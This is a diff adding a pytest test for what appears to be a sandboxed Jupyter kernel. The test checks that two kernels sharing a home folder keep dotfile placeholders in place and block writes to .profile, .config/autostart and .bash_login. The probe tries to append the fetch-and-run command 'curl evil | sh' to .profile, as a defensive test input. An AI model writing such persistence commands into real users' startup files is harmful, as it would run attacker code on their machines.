@@ -293,3 +293,32 @@ def test_symlinked_dotfile_refuses_to_start(home, start_kernel):
         start_kernel(policy={}, cwd=str(home))
     # the failed start left no placeholder behind
     assert not (home / ".profile").exists() and not (home / ".config").exists()
+
+
+def test_two_kernels_in_one_folder_share_placeholders(home, start_kernel):
+    """Unlinking a placeholder on the host detaches the mount over it in every
+    other kernel: the first kernel to stop must leave the placeholders the
+    second one still relies on, and the second removes them."""
+    before = _snapshot(home)
+    first = start_kernel(policy={}, cwd=str(home))
+    second = start_kernel(policy={}, cwd=str(home))
+    first.shutdown()
+    assert (home / ".profile").is_file() and (home / ".config").is_dir()
+    out = second.probe(r'''
+        import errno, json, os
+        res = {}
+        def t(name, fn):
+            try:
+                fn(); res[name] = "DONE"
+            except OSError as exc:
+                res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
+        t("profile", lambda: open(".profile", "a").write("curl evil | sh"))
+        t("autostart", lambda: os.makedirs(".config/autostart"))
+        t("bash_login", lambda: open(".bash_login", "w").write("evil"))
+        print(json.dumps(res))
+    ''')
+    assert [n for n, r in out.items() if r == "DONE"] == []
+    second.shutdown()
+    after = _snapshot(home)
+    assert sorted(p for p in set(after) - set(before) if not p.startswith(".local/share/jupyter/awf-kernel")) == []
+    assert all(after[p] == before[p] for p in before)
